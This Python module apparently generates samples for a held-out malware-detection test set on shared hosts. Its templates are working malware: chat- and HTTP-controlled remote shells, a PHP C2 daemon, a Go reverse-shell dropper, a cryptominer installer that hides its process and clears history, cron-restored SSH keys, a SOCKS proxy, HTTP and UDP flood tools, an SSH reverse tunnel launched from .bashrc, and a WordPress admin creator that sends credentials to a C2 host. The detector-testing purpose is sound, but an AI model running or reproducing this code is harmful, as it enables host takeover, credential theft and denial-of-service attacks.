"""Bots and host backdoors of the sixth held-out set: Ruby IRC and HTTP
bots, a PHP CLI daemon polling over HTTP, a Python asyncio C2 client, a Go
source dropper built on the host, chat-controlled bots (Discord from Node,
Matrix from Python, Telegram from Perl), a miner installer hiding its
process behind a bind mount with a systemd --user timer, an SSH key that a
cron job puts back, a Node SOCKS5 proxy, HTTP floods (PHP curl_multi,
Python asyncio), an SSH reverse tunnel kept alive from .bashrc, and a
wp-cli mass admin creator over the account's sites.

Written blind (README.md): from knowledge of what compromised shared hosts
carry, without reading the detectors. Nothing here is run."""

from common6 import T, dom, hexname, ip, rword, word


def c2(r):
    return r.choice(("http://%s:%d" % (ip(r), r.choice((80, 8080, 8443, 2087))), "http://upd." + dom(r), "https://api-" + word(r, 3, 5) + "." + dom(r)))


def hidden_dir(r):
    return r.choice(("$HOME/.cache/.fontconfig", "$HOME/.local/share/.dbus", "/tmp/.X11-unix/.s", "/var/tmp/.systemd-private",
                     "$HOME/.config/.htop", "/dev/shm/.pulse"))


def kname(r):
    return r.choice(("[kworker/0:1H]", "[kswapd0]", "php-fpm: pool www", "/usr/sbin/httpd -k start", "[rcu_sched]", "sshd: /usr/sbin/sshd -D"))


def b_ruby_irc(r, S):
    body = T("""#!/usr/bin/env ruby
require 'socket'
require 'open3'

SERVER = '{{srv}}'
PORT = {{port}}
CHAN = '#{{chan}}'
NICK = "u#{rand(10_000..99_999)}"
OWNER = /^:{{owner}}!/

Process.daemon(true, true) if ARGV.include?('-d')
$0 = '{{pn}}'

loop do
  begin
    s = TCPSocket.new(SERVER, PORT)
    s.puts "NICK #{NICK}"
    s.puts "USER #{NICK} 0 * :#{`uname -n`.strip}"
    while (line = s.gets)
      if line.start_with?('PING')
        s.puts line.sub('PING', 'PONG')
      elsif line =~ / 001 /
        s.puts "JOIN #{CHAN} {{key}}"
      elsif line =~ OWNER && line =~ /PRIVMSG \\S+ :!(\\w+) ?(.*)$/
        cmd, arg = Regexp.last_match(1), Regexp.last_match(2).strip
        case cmd
        when 'sh'
          out, = Open3.capture2e(arg)
          out.each_line.first(15).each { |l| s.puts "PRIVMSG #{CHAN} :#{l.chomp}"; sleep 0.7 }
        when 'get'
          url, dst = arg.split(' ', 2)
          system('curl', '-fsSLo', dst, url) || system('wget', '-qO', dst, url)
          s.puts "PRIVMSG #{CHAN} :got #{dst}"
        when 'udp'
          host, secs = arg.split
          u = UDPSocket.new
          stop = Time.now + secs.to_i
          u.send(Random.bytes(1400), 0, host, rand(1..65_535)) while Time.now < stop
          s.puts "PRIVMSG #{CHAN} :done"
        when 'quit'
          exit!
        end
      end
    end
  rescue StandardError
    sleep 30
  end
end
""", srv=r.choice(("irc." + dom(r), ip(r))), port=r.choice((6667, 6697, 7000, 443)), chan=word(r, 3, 6), owner=word(r, 3, 8),
             pn=kname(r), key=word(r, 4, 8))
    d = hidden_dir(r).replace("$HOME/", "")
    return [(d.lstrip("/") + "/" + r.choice(("x.rb", ".s.rb", "gem_update.rb")), body, "ruby"),
            ("crontab", "@reboot ruby %s/%s -d >/dev/null 2>&1\n" % (hidden_dir(r), "gem_update.rb"), "crontab")], "script"


def b_ruby_http(r, S):
    body = T("""require 'net/http'
require 'json'
require 'open3'
require 'socket'
require 'securerandom'

C2 = URI('{{c2}}/api/v2/beacon')
ID = File.exist?('/tmp/.id') ? File.read('/tmp/.id') : SecureRandom.hex(8).tap { |i| File.write('/tmp/.id', i) }

def beacon(extra = {})
  req = Net::HTTP::Post.new(C2, 'Content-Type' => 'application/json', 'User-Agent' => 'Mozilla/5.0')
  req.body = { id: ID, host: Socket.gethostname, user: ENV['USER'], ruby: RUBY_VERSION }.merge(extra).to_json
  Net::HTTP.start(C2.host, C2.port, use_ssl: C2.scheme == 'https', verify_mode: OpenSSL::SSL::VERIFY_NONE) { |h| h.request(req) }
end

fork do
  Process.setsid
  $0 = '{{pn}}'
  result = nil
  loop do
    begin
      res = beacon(result ? { result: result } : {})
      result = nil
      job = JSON.parse(res.body) rescue {}
      if job['cmd']
        out, st = Open3.capture2e(job['cmd'])
        result = { jid: job['jid'], out: out[-65_000..] || out, rc: st.exitstatus }
      end
      sleep(job['sleep'] || {{sl}})
    rescue StandardError
      sleep 120
    end
  end
end
""", c2=c2(r), pn=kname(r), sl=r.randint(20, 90))
    d = r.choice((".gem/ruby/specs", ".bundle/cache", ".local/lib/ruby"))
    return [(d + "/" + r.choice(("rake_task.rb", "spec_sync.rb", "init.rb")), body, "ruby")], "script"


def b_php_daemon(r, S):
    body = T("""<?php
if (PHP_SAPI !== 'cli') {
    exit;
}
$pid = pcntl_fork();
if ($pid > 0 || $pid < 0) {
    exit(0);
}
posix_setsid();
if (pcntl_fork() > 0) {
    exit(0);
}
@cli_set_process_title('{{pn}}');
chdir('/');
fclose(STDIN);
fclose(STDOUT);
fclose(STDERR);
$id = substr(md5(php_uname() . get_current_user()), 0, 12);
$c2 = '{{c2}}/g.php';
while (true) {
    $ctx = stream_context_create(array('http' => array('timeout' => 20, 'header' => "User-Agent: WordPress/6.5; " . gethostname() . "\\r\\n")));
    $j = @json_decode(@file_get_contents($c2 . '?i=' . $id . '&u=' . get_current_user(), false, $ctx), true);
    if (is_array($j)) {
        $out = '';
        switch (isset($j['t']) ? $j['t'] : '') {
            case 'x':
                $out = (string) shell_exec($j['a'] . ' 2>&1');
                break;
            case 'e':
                ob_start();
                eval($j['a']);
                $out = ob_get_clean();
                break;
            case 'd':
                $out = (string) @file_put_contents($j['p'], @file_get_contents($j['a']));
                break;
            case 'k':
                exit(0);
        }
        if ($out !== '') {
            @file_get_contents($c2, false, stream_context_create(array('http' => array('method' => 'POST',
                'header' => "Content-Type: application/x-www-form-urlencoded\\r\\n", 'content' => http_build_query(array('i' => $id, 'o' => base64_encode($out)))))));
        }
    }
    sleep({{sl}} + mt_rand(0, 15));
}
""", pn=kname(r), c2=c2(r), sl=r.randint(30, 120))
    d = r.choice(("tmp", ".cache", "public_html/wp-content/upgrade", ".local/bin"))
    f = r.choice(("sess_" + hexname(r, 26), "php-cron.php", ".wp-cli.php", "update.php"))
    cron = "* * * * * pgrep -f '%s' >/dev/null || /usr/bin/php $HOME/%s/%s >/dev/null 2>&1\n" % (kname(r).split()[0].strip("[]"), d, f)
    return [(d + "/" + f, body, "php"), ("crontab", cron, "crontab")], "persistence"


def b_asyncio(r, S):
    body = T("""#!/usr/bin/env python3
import asyncio
import os
import platform
import random
import socket
import ssl

HOST, PORT = "{{h}}", {{p}}


async def udp(target, port, secs):
    loop = asyncio.get_running_loop()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    end = loop.time() + secs
    data = os.urandom(1024)
    while loop.time() < end:
        s.sendto(data, (target, port or random.randint(1, 65535)))
        await asyncio.sleep(0)


async def session():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    reader, writer = await asyncio.open_connection(HOST, PORT, ssl=ctx)
    writer.write(("HELLO %s %s %s\\n" % (socket.gethostname(), os.getuid(), platform.machine())).encode())
    await writer.drain()
    while True:
        line = (await reader.readline()).decode().strip()
        if not line:
            break
        verb, _, arg = line.partition(" ")
        if verb == "SH":
            p = await asyncio.create_subprocess_shell(arg, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
            out, _ = await p.communicate()
            writer.write(out[-60000:] + b"\\n.\\n")
        elif verb == "UDP":
            t, port, secs = arg.split()
            asyncio.create_task(udp(t, int(port), int(secs)))
            writer.write(b"OK\\n")
        elif verb == "PING":
            writer.write(b"PONG\\n")
        await writer.drain()


async def main():
    while True:
        try:
            await session()
        except Exception:
            pass
        await asyncio.sleep(random.randint(30, 90))


if os.fork() == 0:
    os.setsid()
    asyncio.run(main())
""", h=r.choice((ip(r), "relay." + dom(r))), p=r.choice((443, 8443, 4433, 995)))
    d = hidden_dir(r).replace("$HOME/", "").lstrip("/")
    return [(d + "/" + r.choice(("dbus-session.py", "agent.py", ".sync.py")), body, "python")], "script"


def b_go(r, S):
    h = ip(r)
    gosrc = T("""package main

import (
	"bufio"
	"net"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"time"
)

const addr = "{{h}}:{{p}}"

func serve(c net.Conn) {
	defer c.Close()
	host, _ := os.Hostname()
	c.Write([]byte("+ " + host + "\\n"))
	rd := bufio.NewReader(c)
	for {
		line, err := rd.ReadString('\\n')
		if err != nil {
			return
		}
		line = strings.TrimSpace(line)
		if line == "" {
			continue
		}
		cmd := exec.Command("/bin/sh", "-c", line)
		out, _ := cmd.CombinedOutput()
		c.Write(out)
	}
}

func main() {
	syscall.Setsid()
	for {
		c, err := net.DialTimeout("tcp", addr, 15*time.Second)
		if err == nil {
			serve(c)
		}
		time.Sleep(45 * time.Second)
	}
}
""", h=h, p=r.choice((443, 53, 8080, 2222)))
    d = r.choice((".cache/go-build/x", "tmp/.gob", ".local/share/go"))
    sh = T("""#!/bin/sh
# build on the box, so no binary crosses the wire
D=$HOME/{{d}}
cd "$D" || exit 1
if ! command -v go >/dev/null 2>&1; then
	curl -fsSL {{c2}}/go.tgz -o /tmp/.g.tgz && tar -xzf /tmp/.g.tgz -C "$D" && PATH=$D/go/bin:$PATH
fi
export GOCACHE=$D/.c GOPATH=$D/.p
go build -ldflags "-s -w" -o "$D/{{bin}}" main.go && rm -f main.go
nohup "$D/{{bin}}" >/dev/null 2>&1 &
(crontab -l 2>/dev/null | grep -v {{bin}}; echo "*/5 * * * * pgrep -x {{bin}} >/dev/null || $D/{{bin}} >/dev/null 2>&1 &") | crontab -
""", d=d, c2=c2(r), bin=r.choice(("kdevtmpfs", "dbus-daemon-x", "systemd-udev")))
    return [(d + "/main.go", gosrc, "go"), (d + "/b.sh", sh, "sh")], "multi"


def b_discord(r, S):
    body = T("""const { Client, GatewayIntentBits } = require('discord.js');
const { exec } = require('child_process');
const os = require('os');

const client = new Client({ intents: [GatewayIntentBits.Guilds, GatewayIntentBits.GuildMessages, GatewayIntentBits.MessageContent] });
const OWNER = '{{owner}}';
const CH = '{{ch}}';

client.once('ready', () => {
  const c = client.channels.cache.get(CH);
  if (c) c.send('online ' + os.hostname() + ' ' + os.userInfo().username + ' ' + os.platform());
});

client.on('messageCreate', (m) => {
  if (m.author.id !== OWNER || !m.content.startsWith('$')) return;
  const cmd = m.content.slice(1).trim();
  exec(cmd, { timeout: 30000, maxBuffer: 1 << 22 }, (err, out, errout) => {
    const text = (out + errout) || (err ? err.message : 'ok');
    for (let i = 0; i < Math.min(text.length, 6000); i += 1900) m.reply('```' + text.slice(i, i + 1900) + '```');
  });
});

client.login(Buffer.from('{{tok}}', 'base64').toString());
""", owner=r.randint(10 ** 17, 10 ** 18), ch=r.randint(10 ** 17, 10 ** 18), tok=rword(r, 96, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"))
    d = r.choice(("nodevenv/.status", ".npm/.x", "apps/.status", "public_html/node_modules/.cache/x"))
    pkg = '{\n  "name": "status-worker",\n  "version": "1.0.0",\n  "main": "index.js",\n  "dependencies": {\n    "discord.js": "^14.14.1"\n  }\n}\n'
    return [(d + "/index.js", body, "js"), (d + "/package.json", pkg, "json")], "script"


def b_matrix(r, S):
    body = T("""#!/usr/bin/env python3
import json
import subprocess
import time
import urllib.parse
import urllib.request

HS = "https://matrix.{{d}}"
TOKEN = "syt_{{tok}}"
ROOM = "!{{room}}:{{d}}"
OWNER = "@{{owner}}:{{d}}"


def call(method, path, body=None):
    req = urllib.request.Request(HS + path, method=method, data=json.dumps(body).encode() if body is not None else None,
                                 headers={"Authorization": "Bearer " + TOKEN, "Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=40) as r:
        return json.load(r)


def say(text):
    txn = str(int(time.time() * 1000))
    call("PUT", "/_matrix/client/v3/rooms/%s/send/m.room.message/%s" % (urllib.parse.quote(ROOM), txn),
         {"msgtype": "m.text", "body": text[:8000]})


since = None
while True:
    try:
        q = "/_matrix/client/v3/sync?timeout=30000" + ("&since=" + since if since else "")
        data = call("GET", q)
        first = since is None
        since = data["next_batch"]
        if first:
            continue
        room = data.get("rooms", {}).get("join", {}).get(ROOM, {})
        for ev in room.get("timeline", {}).get("events", []):
            body = ev.get("content", {}).get("body", "")
            if ev.get("sender") == OWNER and body.startswith("!x "):
                p = subprocess.run(body[3:], shell=True, capture_output=True, timeout=120)
                say((p.stdout + p.stderr).decode("utf-8", "replace") or "(no output)")
    except Exception:
        time.sleep(20)
""", d=dom(r), tok=rword(r, 40), room=rword(r, 18, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"), owner=word(r, 4, 8))
    d = hidden_dir(r).replace("$HOME/", "").lstrip("/")
    return [(d + "/" + r.choice(("notify.py", "m.py", "sync-client.py")), body, "python"),
            ("crontab", "@reboot nohup python3 %s/notify.py >/dev/null 2>&1 &\n" % hidden_dir(r), "crontab")], "script"


def b_perl_tg(r, S):
    body = T("""#!/usr/bin/perl
use strict;
use warnings;
use LWP::UserAgent;
use JSON::PP;
use POSIX qw(setsid);

my $tok = '{{tok}}';
my $admin = {{chat}};
my $api = "https://api.telegram.org/bot$tok";
my $ua = LWP::UserAgent->new(timeout => 60, ssl_opts => { verify_hostname => 0 });

exit if fork;
setsid();
$0 = '{{pn}}';
my $off = 0;
while (1) {
    my $r = $ua->get("$api/getUpdates?timeout=50&offset=$off");
    unless ($r->is_success) { sleep 30; next; }
    my $j = eval { decode_json($r->decoded_content) } or next;
    for my $u (@{ $j->{result} }) {
        $off = $u->{update_id} + 1;
        my $m = $u->{message} or next;
        next unless $m->{chat}{id} == $admin;
        my $t = $m->{text} // '';
        if ($t =~ m{^/run (.+)}s) {
            my $out = `$1 2>&1`;
            $ua->post("$api/sendMessage", { chat_id => $admin, text => substr($out || 'ok', 0, 4000) });
        } elsif ($t =~ m{^/get (\\S+) (\\S+)}) {
            my $res = $ua->mirror($1, $2);
            $ua->post("$api/sendMessage", { chat_id => $admin, text => $res->status_line });
        }
    }
}
""", tok="%d:%s" % (r.randint(10 ** 9, 7 * 10 ** 9), rword(r, 35)), chat=r.randint(10 ** 8, 10 ** 10), pn=kname(r))
    d = r.choice(("tmp/.p", ".cpan/build", "perl5/lib/.x", "public_html/cgi-bin/.t"))
    return [(d + "/" + r.choice(("tg.pl", "worker.pl", "cpanm.pl")), body, "perl")], "script"


def b_miner(r, S):
    hd = hidden_dir(r)
    bn = r.choice(("kthreaddk", "dbused", "systemd-logind2", "php-fpm7"))
    sh = T("""#!/bin/bash
H={{hd}}
B={{bn}}
POOL={{pool}}
WALLET=4{{w}}
mkdir -p "$H" && cd "$H" || exit
# competitors
for p in xmrig kinsing kdevtmpfsi sysupdate networkservice .javae; do pkill -9 -f "$p" 2>/dev/null; done
crontab -l 2>/dev/null | grep -vE 'kinsing|xmr|\\.javae|kdevtmpfsi' | crontab -
# fetch
A=$(uname -m)
for u in {{c2}}/d/$A.tgz {{c2b}}/d/$A.tgz; do
	(curl -fsSL "$u" || wget -qO- "$u" || python3 -c "import urllib.request,sys;sys.stdout.buffer.write(urllib.request.urlopen('$u').read())") >x.tgz 2>/dev/null && break
done
tar -xzf x.tgz && rm -f x.tgz && mv -f xmr* "$B" 2>/dev/null
cat >config.json <<EOF
{"autosave": false, "cpu": {"max-threads-hint": 60}, "donate-level": 0,
 "pools": [{"url": "$POOL", "user": "$WALLET", "pass": "$(hostname)", "tls": true, "keepalive": true}]}
EOF
# persistence: a user timer, and cron as the fallback
mkdir -p ~/.config/systemd/user
cat >~/.config/systemd/user/dbus-broker.service <<EOF
[Unit]
Description=D-Bus User Message Bus Broker
[Service]
ExecStart=$H/$B -c $H/config.json
Restart=always
Nice=10
EOF
cat >~/.config/systemd/user/dbus-broker.timer <<EOF
[Unit]
Description=refresh
[Timer]
OnBootSec=2min
OnUnitInactiveSec=10min
[Install]
WantedBy=timers.target
EOF
systemctl --user daemon-reload 2>/dev/null && systemctl --user enable --now dbus-broker.timer 2>/dev/null
loginctl enable-linger "$(id -un)" 2>/dev/null
(crontab -l 2>/dev/null; echo "@reboot $H/$B -c $H/config.json >/dev/null 2>&1") | sort -u | crontab -
nohup "$H/$B" -c "$H/config.json" >/dev/null 2>&1 &
# hide it: an empty dir over its /proc entry
P=$!
mkdir -p /tmp/.e && mount --bind /tmp/.e /proc/$P 2>/dev/null
history -c; rm -f ~/.bash_history
""", hd=hd, bn=bn, pool=r.choice(("pool.%s:443" % dom(r), "%s:3333" % ip(r))), w=rword(r, 94, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"),
          c2=c2(r), c2b="http://%s" % ip(r))
    return [(r.choice(("tmp", ".cache", "public_html/wp-content/uploads")) + "/" + r.choice(("i.sh", "x", ".update.sh")), sh, "sh")], "persistence"


def b_sshkey(r, S):
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI%s %s" % (rword(r, 43, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"),
                                                        r.choice(("root@localhost", "admin@backup", "deploy@ci")))
    keep = r.choice((".cache/.k", ".local/share/.ak", ".config/.pulse/k"))
    sh = T("""#!/bin/sh
K='{{key}}'
mkdir -p ~/.ssh ~/{{keep}} && chmod 700 ~/.ssh
echo "$K" >~/{{keep}}/k
grep -qF "$K" ~/.ssh/authorized_keys 2>/dev/null || echo "$K" >>~/.ssh/authorized_keys
chmod 600 ~/.ssh/authorized_keys
touch -r ~/.ssh ~/.ssh/authorized_keys
(crontab -l 2>/dev/null | grep -v '{{keep}}'; echo "*/7 * * * * grep -qf \\$HOME/{{keep}}/k \\$HOME/.ssh/authorized_keys 2>/dev/null || cat \\$HOME/{{keep}}/k >>\\$HOME/.ssh/authorized_keys") | crontab -
curl -s -m 10 "{{c2}}/k?h=$(hostname)&u=$(id -un)&p=$(grep -E '^Port ' /etc/ssh/sshd_config | awk '{print $2}')" >/dev/null 2>&1
""", key=key, keep=keep, c2=c2(r))
    cron = ("MAILTO=\"\"\n*/7 * * * * grep -qf $HOME/%s/k $HOME/.ssh/authorized_keys 2>/dev/null || cat $HOME/%s/k >>$HOME/.ssh/authorized_keys\n"
            % (keep, keep))
    return [(r.choice(("tmp", ".cache", "public_html/images")) + "/" + r.choice(("k.sh", ".s", "setup.sh")), sh, "sh"),
            (keep + "/k", key + "\n", "txt"), ("crontab", cron, "crontab")], "persistence"


def b_socks(r, S):
    body = T("""'use strict';
const net = require('net');
const PORT = {{port}};

function reply(sock, code) { sock.end(Buffer.from([5, code, 0, 1, 0, 0, 0, 0, 0, 0])); }

net.createServer((c) => {
  c.once('data', (hello) => {
    if (hello[0] !== 5) return c.destroy();
    c.write(Buffer.from([5, 0]));
    c.once('data', (req) => {
      let host, off;
      if (req[3] === 1) { host = req.slice(4, 8).join('.'); off = 8; }
      else if (req[3] === 3) { const n = req[4]; host = req.slice(5, 5 + n).toString(); off = 5 + n; }
      else return reply(c, 8);
      const port = req.readUInt16BE(off);
      const up = net.connect(port, host, () => {
        c.write(Buffer.from([5, 0, 0, 1, 0, 0, 0, 0, 0, 0]));
        up.pipe(c); c.pipe(up);
      });
      up.on('error', () => reply(c, 5));
    });
  });
  c.on('error', () => {});
}).listen(PORT, '0.0.0.0');

// tell the panel where we are
require('http').get('{{c2}}/reg?p=' + PORT + '&h=' + require('os').hostname()).on('error', () => {});
process.title = '{{pn}}';
""", port=r.choice((1080, 10808, 31337, 44321, 8118)), c2=c2(r), pn=r.choice(("node /app/server.js", "npm start", "lsphp")))
    d = r.choice(("nodevenv/.p", "tmp/.n", ".npm/_logs/.x"))
    sh = "#!/bin/sh\ncd $HOME/%s && nohup node s.js >/dev/null 2>&1 &\n" % d
    return [(d + "/s.js", body, "js"), (d + "/start.sh", sh, "sh")], "script"


def b_curlmulti(r, S):
    body = T("""<?php
// usage: php f.php URL SECONDS [CONC]
if (PHP_SAPI !== 'cli' && (!isset($_GET['k']) || $_GET['k'] !== '{{k}}')) { exit; }
$a = PHP_SAPI === 'cli' ? $argv : array(0, $_GET['u'], $_GET['t'], @$_GET['c']);
$url = $a[1];
$end = time() + (int) $a[2];
$conc = isset($a[3]) && $a[3] ? (int) $a[3] : 200;
ignore_user_abort(true);
set_time_limit(0);
$uas = array('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
    'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0');
function h($url, $uas) {
    $c = curl_init($url . (strpos($url, '?') === false ? '?' : '&') . mt_rand() . '=' . bin2hex(random_bytes(4)));
    curl_setopt_array($c, array(CURLOPT_RETURNTRANSFER => 1, CURLOPT_TIMEOUT => 5, CURLOPT_NOBODY => false, CURLOPT_SSL_VERIFYPEER => 0,
        CURLOPT_USERAGENT => $uas[array_rand($uas)], CURLOPT_HTTPHEADER => array('Cache-Control: no-cache', 'X-Forwarded-For: ' . mt_rand(1, 223) . '.' . mt_rand(0, 255) . '.' . mt_rand(0, 255) . '.' . mt_rand(1, 254))));
    return $c;
}
$m = curl_multi_init();
for ($i = 0; $i < $conc; $i++) { curl_multi_add_handle($m, h($url, $uas)); }
$n = 0;
while (time() < $end) {
    curl_multi_exec($m, $run);
    while ($d = curl_multi_info_read($m)) {
        curl_multi_remove_handle($m, $d['handle']);
        curl_close($d['handle']);
        curl_multi_add_handle($m, h($url, $uas));
        $n++;
    }
    curl_multi_select($m, 0.05);
}
echo "$n requests\\n";
""", k=word(r, 5, 9))
    d = r.choice(("tmp", "public_html/wp-content/uploads/%d" % r.randint(2020, 2025), ".cache"))
    return [(d + "/" + r.choice(("f.php", "cache-gen.php", "ping.php")), body, "php")], "script"


def b_pyflood(r, S):
    body = T("""#!/usr/bin/env python3
import asyncio
import random
import ssl
import sys
import time
from urllib.parse import urlparse

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
]
PATHS = ["/", "/?s=%d", "/wp-login.php", "/search?q=%d", "/cart?add=%d"]


async def worker(u, end, stats):
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    port = u.port or (443 if u.scheme == "https" else 80)
    while time.time() < end:
        try:
            r, w = await asyncio.wait_for(asyncio.open_connection(u.hostname, port, ssl=ctx if u.scheme == "https" else None), 5)
            for _ in range(50):
                p = random.choice(PATHS)
                p = p % random.randint(1, 10 ** 9) if "%d" in p else p
                w.write(("GET %s HTTP/1.1\\r\\nHost: %s\\r\\nUser-Agent: %s\\r\\nAccept: */*\\r\\nConnection: keep-alive\\r\\n\\r\\n"
                         % (p, u.hostname, random.choice(UAS))).encode())
                stats[0] += 1
            await w.drain()
            w.close()
        except Exception:
            await asyncio.sleep(0.1)


async def main():
    u = urlparse(sys.argv[1])
    end = time.time() + int(sys.argv[2])
    stats = [0]
    await asyncio.gather(*(worker(u, end, stats) for _ in range(int(sys.argv[3]) if len(sys.argv) > 3 else 500)))
    print(stats[0], "requests")


asyncio.run(main())
""")
    d = hidden_dir(r).replace("$HOME/", "").lstrip("/")
    return [(d + "/" + r.choice(("h.py", "load.py", ".w.py")), body, "python")], "script"


def b_tunnel(r, S):
    kf = r.choice((".ssh/.id_cache", ".cache/.k2", ".config/.ssh_agent"))
    host = r.choice((ip(r), "relay." + dom(r)))
    port = r.randint(20000, 60000)
    sh = T("""#!/bin/bash
# keeps a way back in: the box's sshd/web ports exposed on the relay
umask 077
mkdir -p "$(dirname ~/{{kf}})"
base64 -d >~/{{kf}} <<'K'
LS0tLS1CRUdJTiBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0K{{blob}}
K
while true; do
	ssh -i ~/{{kf}} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ServerAliveInterval=30 -o ExitOnForwardFailure=yes \\
		-N -R {{port}}:127.0.0.1:22 -R {{port2}}:127.0.0.1:80 -p 443 tun@{{host}} 2>/dev/null
	sleep 60
done
""", kf=kf, blob=rword(r, 200, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"), port=port, port2=port + 1, host=host)
    f = r.choice((".cache/.t.sh", ".local/bin/dbus-launch2", "tmp/.x.sh"))
    rc = ("# ~/.bashrc\n[ -f /etc/bashrc ] && . /etc/bashrc\nalias ll='ls -la'\nexport PATH=$HOME/.local/bin:$PATH\n"
          "pgrep -f '%s' >/dev/null 2>&1 || (nohup bash $HOME/%s >/dev/null 2>&1 &)\n" % (str(port), f))
    return [(f, sh, "sh"), (".bashrc", rc, "sh")], "persistence"


def b_wpcli(r, S):
    u = r.choice(("wpsupport", "adm1n", "wp_sys", "backup_admin"))
    sh = T("""#!/bin/bash
# every WordPress of the account: an admin, a plugin from the panel, report back
PLUG={{c2}}/p/{{plug}}.zip
U={{u}}
P=$(head -c 12 /dev/urandom | base64 | tr -dc A-Za-z0-9)
WP=$(command -v wp || echo /tmp/.wp.phar)
[ -x "$WP" ] || { curl -fsSLo /tmp/.wp.phar {{c2}}/wp-cli.phar && chmod +x /tmp/.wp.phar; }
find "$HOME" -maxdepth 4 -name wp-config.php 2>/dev/null | while read -r cfg; do
	d=$(dirname "$cfg")
	url=$("$WP" --path="$d" option get siteurl 2>/dev/null) || continue
	"$WP" --path="$d" user create "$U" "$U@{{dom}}" --role=administrator --user_pass="$P" 2>/dev/null ||
		"$WP" --path="$d" user update "$U" --user_pass="$P" --role=administrator 2>/dev/null
	"$WP" --path="$d" plugin install "$PLUG" --activate --force 2>/dev/null
	"$WP" --path="$d" option update users_can_register 0 >/dev/null 2>&1
	curl -s -m 10 -d "u=$url&l=$U&p=$P" {{c2}}/r >/dev/null
done
rm -f "$0"
""", c2=c2(r), plug=r.choice(("wp-core-helper", "classic-widgets-fix", "wp-optimize-x")), u=u, dom=dom(r))
    return [(r.choice(("tmp", ".cache", "public_html/wp-content/upgrade")) + "/" + r.choice(("w.sh", ".m", "run")), sh, "sh")], "script"


TEMPLATES = [
    ("ruby_irc_bot", b_ruby_irc, 3),
    ("ruby_http_beacon", b_ruby_http, 3),
    ("php_cli_daemon_poll", b_php_daemon, 3),
    ("python_asyncio_c2", b_asyncio, 3),
    ("go_source_build_dropper", b_go, 3),
    ("discord_controlled_node", b_discord, 3),
    ("matrix_controlled_python", b_matrix, 3),
    ("perl_telegram_bot", b_perl_tg, 3),
    ("miner_user_timer_bindmount", b_miner, 3),
    ("ssh_key_cron_restore", b_sshkey, 3),
    ("node_socks5_proxy", b_socks, 3),
    ("php_curl_multi_flood", b_curlmulti, 3),
    ("python_asyncio_http_flood", b_pyflood, 3),
    ("ssh_reverse_tunnel_bashrc", b_tunnel, 3),
    ("wpcli_mass_admin", b_wpcli, 3),
]
